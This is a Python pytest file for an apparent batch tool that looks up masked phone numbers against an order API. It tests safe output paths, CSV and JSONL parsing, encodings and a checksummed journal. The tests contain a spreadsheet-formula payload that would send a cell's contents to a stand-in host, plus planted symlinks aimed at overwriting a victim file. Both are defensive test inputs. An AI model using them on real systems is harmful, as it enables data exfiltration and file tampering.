"""Batch files: safe outputs, stdin/stdout, bad rows, encodings, a
checksummed journal, and hypothesis over CSV and JSONL rows (no input crashes the batch or
loses a row).

End-to-end cases run ``python -m lookup batch`` as a subprocess; ``--api demo`` is the bundled
mock on loopback. Cases that must fail *before any lookup* point at a closed loopback port
instead: a lookup there would end ``inconclusive`` (exit 3), not exit 2.
"""

from __future__ import annotations

import csv
import io
import json
import os
import stat
import subprocess
import sys
import threading
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from lookup.domain.errors import ConfigError
from lookup.domain.models import Limits
from lookup.engine.batch import RowResult, run_batch
from lookup.engine.checker import Checker
from lookup.files.run import (
    MAX_LINE_BYTES,
    Journal,
    check_output_path,
    journal_header,
    read_rows,
    write_output,
)
from lookup.orders import FakeOrderApi
from lookup.runtime.settings import load_settings

ROOT = Path(__file__).resolve().parents[2]
CLOSED_API = "http://127.0.0.1:9/orders?phone={phone}"  # discard port: nothing listens


def env() -> dict[str, str]:
    e = {k: v for k, v in os.environ.items() if not k.upper().startswith("LOOKUP_")}
    e["PYTHONIOENCODING"] = "utf-8"
    return e


def batch(*args: str | Path, stdin: str | None = None, cwd: Path = ROOT) -> subprocess.CompletedProcess[str]:  # fmt: skip
    return subprocess.run(
        [sys.executable, "-m", "lookup", "batch", *map(str, args)],
        cwd=ROOT, env=env(), capture_output=True, text=True, encoding="utf-8",
        input=stdin, timeout=120, check=False,
    )  # fmt: skip


def small_csv(tmp_path: Path) -> Path:
    src = tmp_path / "in.csv"
    src.write_text("id,mask,city\na,138****2046,杭州\nb,133****7310,\n", encoding="utf-8")
    return src


# -- --out must be a regular file or a new path -------------------------------------------------


def _fifo(p: Path) -> Path:
    os.mkfifo(p)
    return p


def _link(p: Path) -> Path:
    victim = p.with_name("victim.txt")
    victim.write_text("keep me\n", encoding="utf-8")
    p.symlink_to(victim)
    return p


def _folder(p: Path) -> Path:
    p.mkdir()
    return p


@pytest.mark.parametrize(
    ("make", "message"),
    [(_fifo, "not a regular file"), (_link, "symbolic link"), (_folder, "is a directory")],
)
def test_out_that_is_not_a_regular_file_is_refused_before_any_lookup(
    tmp_path: Path, make: Any, message: str
) -> None:
    out = make(tmp_path / "out.jsonl")
    before = os.lstat(out)
    r = batch(small_csv(tmp_path), "--out", out, "--api", CLOSED_API)
    assert r.returncode == 2, r.stderr
    assert message in r.stderr and r.stderr.count("\n") == 1, r.stderr
    after = os.lstat(out)
    assert (after.st_mode, after.st_ino) == (before.st_mode, before.st_ino)  # untouched
    if out.is_symlink():
        assert (tmp_path / "victim.txt").read_text(encoding="utf-8") == "keep me\n"
    assert not (tmp_path / "out.jsonl.journal").exists()


def test_dev_null_is_refused_by_the_path_check() -> None:
    # Not through the CLI: a regression there would replace /dev/null as root.
    with pytest.raises(ConfigError, match="not a regular file"):
        check_output_path(Path("/dev/null"))
    assert stat.S_ISCHR(os.stat("/dev/null").st_mode)


def test_journal_that_is_a_symlink_is_refused(tmp_path: Path) -> None:
    out = tmp_path / "out.jsonl"
    _link(tmp_path / "out.jsonl.journal")
    r = batch(small_csv(tmp_path), "--out", out, "--api", CLOSED_API, "--resume")
    assert r.returncode == 2 and "--journal" in r.stderr and "symbolic link" in r.stderr
    assert (tmp_path / "victim.txt").read_text(encoding="utf-8") == "keep me\n"


def test_output_and_journal_are_private_and_no_temp_file_is_left(tmp_path: Path) -> None:
    out = tmp_path / "out.csv"
    r = batch(small_csv(tmp_path), "--out", out, "--api", "demo")
    assert r.returncode == 0, r.stderr
    for p in (out, tmp_path / "out.csv.journal", tmp_path / "out.csv.audit.log"):
        assert stat.S_IMODE(p.stat().st_mode) == 0o600, p
    assert sorted(p.name for p in tmp_path.iterdir()) == [
        "in.csv", "out.csv", "out.csv.audit.log", "out.csv.journal"
    ]


def test_write_output_ignores_a_planted_link_at_the_old_temp_name(tmp_path: Path) -> None:
    victim = tmp_path / "victim.txt"
    victim.write_text("keep me\n", encoding="utf-8")
    out = tmp_path / "out.jsonl"
    (tmp_path / f".out.jsonl.{os.getpid()}.tmp").symlink_to(victim)  # the v1 name
    write_output(out, [RowResult(id=1, row=1, mask="138****2046", status="not_found")], "jsonl")
    assert victim.read_text(encoding="utf-8") == "keep me\n"
    assert json.loads(out.read_text(encoding="utf-8"))["status"] == "not_found"
    assert stat.S_IMODE(out.stat().st_mode) == 0o600


def test_csv_cells_a_spreadsheet_would_evaluate_are_neutralised(tmp_path: Path) -> None:
    out = tmp_path / "out.csv"
    ids = ['=HYPERLINK("http://x/?"&C2,"click")', "+1", "-2", "@SUM(A1)", "\tx", "ok", "a=b"]
    records = [RowResult(id=i, row=n, mask="138****2046", status="invalid", reason="-bad")
               for n, i in enumerate(ids, 1)]  # fmt: skip
    write_output(out, records, "csv")
    rows = list(csv.reader(io.StringIO(out.read_text(encoding="utf-8"))))[1:]
    assert [r[0] for r in rows] == ["'" + i for i in ids[:5]] + ["ok", "a=b"]
    assert all(r[-1] == "'-bad" for r in rows)
    assert rows[0][1] == "1"  # numbers are left alone


# -- `-` reads stdin and writes stdout -----------------------------------------------------------


def test_stdin_to_stdout(tmp_path: Path) -> None:
    text = small_csv(tmp_path).read_text(encoding="utf-8")
    r = batch("-", "--out", "-", "--api", "demo", stdin=text)
    assert r.returncode == 0, r.stderr
    lines = [json.loads(line) for line in r.stdout.splitlines()]
    assert [x["id"] for x in lines] == ["a", "b"] and lines[0]["status"] == "matched"
    assert "lookup batch: 2 rows -> -" in r.stderr  # the summary goes to stderr then
    assert not list(ROOT.glob("-*"))  # `-` was never taken as a file name


def test_stdout_resume_needs_a_journal_and_works_with_one(tmp_path: Path) -> None:
    text = small_csv(tmp_path).read_text(encoding="utf-8")
    r = batch("-", "--out", "-", "--api", "demo", "--resume", stdin=text)
    assert r.returncode == 2 and "--journal" in r.stderr
    journal = tmp_path / "run.journal"
    first = batch("-", "--out", "-", "--api", "demo", "--journal", journal, stdin=text)
    assert first.returncode == 0, first.stderr
    assert stat.S_IMODE(journal.stat().st_mode) == 0o600
    again = batch("-", "--out", "-", "--api", "demo", "--journal", journal, "--resume",
                  stdin=text)  # fmt: skip
    assert again.returncode == 0, again.stderr
    assert "(2 done before, from the journal)" in again.stderr
    assert again.stdout == first.stdout


def _feed_fifo(path: Path, text: str) -> threading.Thread:
    """A writer for the FIFO ``path``: its open blocks until the batch opens the reader."""

    def write() -> None:
        with path.open("w", encoding="utf-8") as f:
            f.write(text)

    thread = threading.Thread(target=write, daemon=True)
    thread.start()
    return thread


def test_a_pipe_as_input_is_read_once_and_resumable(tmp_path: Path) -> None:
    # `lookup batch <(zcat masks.csv.gz) ...` is a pipe: it was "input file ... does not exist"
    text = small_csv(tmp_path).read_text(encoding="utf-8")
    fifo, out = tmp_path / "masks.fifo", tmp_path / "out.jsonl"
    os.mkfifo(fifo)
    writer = _feed_fifo(fifo, text)
    r = batch(fifo, "--out", out, "--api", "demo")
    writer.join(timeout=30)
    assert r.returncode == 0, r.stderr
    assert [json.loads(x)["id"] for x in out.read_text(encoding="utf-8").splitlines()] == ["a", "b"]
    writer = _feed_fifo(fifo, text)
    again = batch(fifo, "--out", out, "--api", "demo", "--resume")
    writer.join(timeout=30)
    assert again.returncode == 0, again.stderr
    assert "(2 done before, from the journal)" in again.stdout


@pytest.mark.parametrize("journal", ["out.jsonl", "in.csv"])
def test_journal_that_is_the_output_or_the_input_is_refused(tmp_path: Path, journal: str) -> None:
    # --journal = --out: the output replaced the journal at the end, nothing left to resume
    src = small_csv(tmp_path)
    before = src.read_bytes()
    r = batch(src, "--out", tmp_path / "out.jsonl", "--journal", tmp_path / journal,
              "--api", "demo")  # fmt: skip
    assert r.returncode == 2 and "--journal is the" in r.stderr, r.stderr
    assert not (tmp_path / "out.jsonl").exists() and src.read_bytes() == before


def test_a_folder_as_input_is_named_a_folder(tmp_path: Path) -> None:
    r = batch(tmp_path, "--out", tmp_path / "out.jsonl", "--api", "demo")
    assert r.returncode == 2 and "is a folder" in r.stderr and "does not exist" not in r.stderr


def test_stdout_without_a_journal_does_not_point_at_one(tmp_path: Path) -> None:
    text = small_csv(tmp_path).read_text(encoding="utf-8")
    r = batch("-", "--out", "-", "--api-plugin", "support.plugins_for_tests:LeakyApi", stdin=text)
    assert r.returncode == 3, r.stderr
    assert "journal None" not in r.stderr and "run again with --journal PATH" in r.stderr


# -- bad rows become invalid rows; the run goes on -----------------------------------------------


def test_bad_csv_rows_are_invalid_with_their_line(tmp_path: Path) -> None:
    src = tmp_path / "in.csv"
    src.write_bytes(
        b"mask,city\n"
        b"138****2046,\xe6\x9d\xad\xe5\xb7\x9e\n"  # 1, line 2
        + b"138****2046," + b"x" * 200_000 + b"\n"  # 2, line 3: field over the csv limit
        + b"138****2046,\xff\xfe\n"  # 3, line 4: not UTF-8
        + b"138****2046," + b"y" * (MAX_LINE_BYTES + 10) + b"\n"  # 4, line 5: too long
        + b'"138****2046,never closed\n'  # 5, line 6
        + b"139****8812,\n"  # 6, line 7: swallowed by the quote, read again
        + b"133****7310,\n"  # 7, line 8
    )
    rows = list(read_rows(src))
    assert [r.row for r in rows] == list(range(1, 8))
    problems = {r.row: r.problem for r in rows if r.problem}
    assert set(problems) == {2, 3, 4, 5}
    assert problems[2].startswith("line 3:") and "field limit" in problems[2]
    assert problems[3].startswith("line 4 has bytes that are not UTF-8")
    assert problems[4].startswith("line 5 is longer than")
    assert problems[5] == "line 6: a quoted field is never closed"
    assert [r.mask for r in rows if not r.problem] == ["138****2046", "139****8812", "133****7310"]
    assert rows[0].city == "杭州"


def test_bad_jsonl_rows_are_invalid_with_their_line(tmp_path: Path) -> None:
    src = tmp_path / "in.jsonl"
    src.write_bytes(
        b'{"mask": "138****2046"}\n'
        + b"[" * 3000 + b"]" * 3000 + b"\n"
        + b'{"mask": ' + b"[" * 3000 + b"]" * 3000 + b"}\n"
        + b'{"mask": "138****2046", "city": "\xff"}\n'
        + b"\n"
        + b'{"mask": {"deep": [1, 2]}}\n'
        + b'{"mask": "133****7310"}\n'
    )
    rows = list(read_rows(src))
    assert [r.row for r in rows] == [1, 2, 3, 4, 5, 6]
    assert [r.problem is None for r in rows] == [True, False, False, False, False, True]
    assert rows[1].problem == "line 2 of in.jsonl: JSON nested too deeply"
    assert rows[2].problem == "line 3 of in.jsonl: JSON nested too deeply"
    assert rows[3].problem is not None and rows[3].problem.startswith("line 4 has bytes")
    assert rows[4].problem == "line 6: unreadable value in mask"


def test_a_deep_jsonl_row_does_not_crash_the_batch(tmp_path: Path) -> None:
    src = tmp_path / "in.jsonl"
    src.write_text('{"mask": "138****2046", "city": "杭州"}\n' + "[" * 3000 + "]" * 3000 + "\n",
                   encoding="utf-8")  # fmt: skip
    out = tmp_path / "out.jsonl"
    r = batch(src, "--out", out, "--api", "demo")
    assert r.returncode == 0, r.stderr
    assert "Traceback" not in r.stderr
    got = [json.loads(line) for line in out.read_text(encoding="utf-8").splitlines()]
    assert [x["status"] for x in got] == ["matched", "invalid"]


# -- encodings -----------------------------------------------------------------------------------


def test_gbk_file_falls_back_to_gb18030_with_a_warning(
    tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    src = tmp_path / "in.csv"
    src.write_bytes("mask,city\n138****2046,杭州\n".encode("gbk"))
    rows = list(read_rows(src))
    assert [(r.mask, r.city) for r in rows] == [("138****2046", "杭州")]
    assert "reading it as GB18030" in caplog.text


def test_explicit_encoding(tmp_path: Path) -> None:
    src = tmp_path / "in.csv"
    src.write_bytes("mask,city\n138****2046,杭州\n".encode("big5"))
    assert [r.city for r in read_rows(src, encoding="big5")] == ["杭州"]
    with pytest.raises(ConfigError, match="unsupported encoding 'klingon'"):
        list(read_rows(src, encoding="klingon"))
    with pytest.raises(ConfigError, match="unsupported encoding 'utf-16'"):
        list(read_rows(src, encoding="utf-16"))  # not line-compatible with ASCII


def test_utf8_bom_and_the_odd_bad_line_stay_utf8(tmp_path: Path) -> None:
    src = tmp_path / "in.csv"
    src.write_bytes("\ufeffmask,city\n138****2046,杭州\n".encode() + b"138****2046,\xb4\xf3\n")
    rows = list(read_rows(src))
    assert rows[0].city == "杭州"
    assert rows[1].problem is not None and "not UTF-8" in rows[1].problem


# -- the journal's checksums ---------------------------------------------------------------------


def _header(src: Path) -> dict[str, Any]:
    return journal_header(src, load_settings(api_url="demo"), "first")


def _record(row: int, phone: str | None = None) -> RowResult:
    return RowResult(id=row, row=row, mask="138****2046", status="matched" if phone else
                     "not_found", phone=phone)  # fmt: skip


def test_an_edited_journal_line_is_not_trusted(tmp_path: Path) -> None:
    src = small_csv(tmp_path)
    path = tmp_path / "out.journal"
    with Journal.open(path, _header(src)) as j:
        j.append(_record(1, "13857152046"))
        j.append(_record(2))
    assert stat.S_IMODE(path.stat().st_mode) == 0o600
    text = path.read_text(encoding="utf-8")
    path.write_text(text.replace("13857152046", "13800000000"), encoding="utf-8")
    with Journal.open(path, _header(src)) as j:
        assert sorted(j.records) == [2] and j.unreadable == 1


def test_a_line_from_another_journal_is_not_trusted(tmp_path: Path) -> None:
    src = small_csv(tmp_path)
    a, b = tmp_path / "a.journal", tmp_path / "b.journal"
    with Journal.open(a, _header(src)) as j:
        j.append(_record(1, "13857152046"))
    with Journal.open(b, _header(src)) as j:  # same input and settings, another journal
        j.append(_record(2))
    foreign = a.read_text(encoding="utf-8").splitlines()[1]
    with b.open("a", encoding="utf-8") as f:
        f.write(foreign + "\n")
    with Journal.open(b, _header(src)) as j:
        assert sorted(j.records) == [2] and j.unreadable == 1


def test_a_journal_line_without_checksum_is_not_trusted(tmp_path: Path) -> None:
    src = small_csv(tmp_path)
    path = tmp_path / "out.journal"
    with Journal.open(path, _header(src)):
        pass
    with path.open("a", encoding="utf-8") as f:
        f.write(_record(1, "13857152046").as_json() + "\n")  # valid JSON, no checksum
    with Journal.open(path, _header(src)) as j:
        assert j.records == {} and j.unreadable == 1


def test_reading_a_journal_beside_its_writer_trusts_checksummed_lines_only(tmp_path: Path) -> None:
    src = small_csv(tmp_path)
    path = tmp_path / "out.journal"
    with Journal.open(path, _header(src)) as j:
        j.append(_record(1, "13857152046"))
        j.append(_record(2))
        with path.open("a", encoding="utf-8") as f:
            f.write(_record(3, "13857152046").as_json() + "\n")  # no checksum
        seen = Journal.read(path)  # while the writer holds the lock
    assert sorted(seen.records) == [1, 2] and seen.unreadable == 1
    assert seen.records[1].phone == "13857152046"
    (tmp_path / "not.journal").write_text('{"some": "json"}\n', encoding="utf-8")
    with pytest.raises(ConfigError, match="not a lookup batch journal"):
        Journal.read(tmp_path / "not.journal")


# -- hypothesis: no input crashes the batch or loses a row ---------------------------------------

_TEXT = st.text(st.characters(codec="utf-8", exclude_categories=("Cs",)), max_size=30)
_CELL = st.one_of(_TEXT, st.sampled_from(["138****2046", "133****7310", "杭州", '"', "=1", ""]))


@settings(max_examples=60, deadline=None, derandomize=True,
          suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(rows=st.lists(st.tuples(_CELL, _CELL, _CELL), max_size=12))
def test_csv_written_by_a_csv_writer_reads_back_row_for_row(
    tmp_path_factory: pytest.TempPathFactory, rows: list[tuple[str, str, str]]
) -> None:
    src = tmp_path_factory.mktemp("csv") / "in.csv"
    with src.open("w", encoding="utf-8", newline="") as f:
        w = csv.writer(f)
        w.writerow(["id", "mask", "city"])
        w.writerows(rows)
    got = list(read_rows(src))
    kept = [r for r in rows if any(c.strip() for c in r)]  # wholly blank rows are skipped
    assert [r.row for r in got] == list(range(1, len(kept) + 1))
    assert [r.mask for r in got if r.problem is None] == [
        m.strip() for (_, m, c) in kept if len(c.strip()) <= 64
    ]
    summary, results = _run(got)
    assert summary == len(kept) == len(results)


@settings(max_examples=80, deadline=None, derandomize=True,
          suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(body=st.binary(max_size=400), fmt=st.sampled_from(["csv", "jsonl"]))
def test_arbitrary_bytes_never_crash_the_reader_or_the_batch(
    tmp_path_factory: pytest.TempPathFactory, body: bytes, fmt: str
) -> None:
    src = tmp_path_factory.mktemp("bytes") / f"in.{fmt}"
    header = b"mask,city\n" if fmt == "csv" else b""
    src.write_bytes(header + body)
    try:
        rows = list(read_rows(src))
    except ConfigError:  # the header line itself unreadable: the whole file is refused
        assert fmt == "csv"
        return
    assert [r.row for r in rows] == list(range(1, len(rows) + 1))
    assert len(rows) <= (header + body).count(b"\n") + 1  # at most one row per line
    summary, results = _run(rows)
    assert summary == len(rows) == len(results)
    assert sorted(r.row for r in results) == [r.row for r in rows]


@settings(max_examples=60, deadline=None, derandomize=True,
          suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(objects=st.lists(st.one_of(
    st.dictionaries(st.sampled_from(["mask", "id", "city", "zip", "carrier", "x"]),
                    st.recursive(st.none() | st.booleans() | st.integers() | st.floats() | _TEXT,
                                 lambda c: st.lists(c, max_size=3) | st.dictionaries(_TEXT, c, max_size=3),
                                 max_leaves=6)),
    st.sampled_from(["[]", "1", '"x"', "{", "null", "[" * 2000]),
), max_size=10))  # fmt: skip
def test_jsonl_every_line_is_one_row(
    tmp_path_factory: pytest.TempPathFactory, objects: list[Any]
) -> None:
    src = tmp_path_factory.mktemp("jsonl") / "in.jsonl"
    lines = [o if isinstance(o, str) else json.dumps(o, ensure_ascii=False) for o in objects]
    src.write_text("".join(line + "\n" for line in lines), encoding="utf-8")
    rows = list(read_rows(src))
    assert len(rows) == len(lines)  # none is blank: each line gives exactly one row
    summary, results = _run(rows)
    assert summary == len(lines) == len(results)


def _run(rows: list[Any]) -> tuple[int, list[RowResult]]:
    import asyncio

    async def go() -> tuple[int, list[RowResult]]:
        results: list[RowResult] = []
        checker = Checker(FakeOrderApi(lambda phone: phone.endswith("2046")), Limits(max_in_flight=8,
                          max_per_second=None))  # fmt: skip
        summary = await run_batch(rows, checker=checker, on_result=results.append,
                                  max_candidates=200)  # fmt: skip
        return summary.rows, results

    return asyncio.run(go())
